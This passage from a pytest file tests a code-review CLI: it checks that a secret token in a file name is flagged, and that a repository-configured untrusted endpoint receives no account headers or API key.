    assert result.exit_code == 1  # the secret in the name is itself a blocking finding
    assert "in the file name" in result.stdout
    assert f"keys/{token}.txt:1: warning: odd file name" in result.stdout  # the answer maps back to the real file


def test_an_untrusted_endpoint_gets_no_account_headers_either(repo, model_server, repo_server, cli, monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL")
    monkeypatch.setenv("OPENAI_ORG_ID", "org-" + rand("org", 24))
    monkeypatch.setenv("OPENAI_PROJECT_ID", "proj_" + rand("project", 24))
    repo.write(".reviewbot.toml", f'base_url = "{repo_server.url}"\n')
    _stage_code(repo)
    assert cli("diff", "--staged").exit_code == 0
    (headers,) = repo_server.headers
    assert "openai-organization" not in headers and "openai-project" not in headers
    assert TEST_API_KEY not in json.dumps(headers)
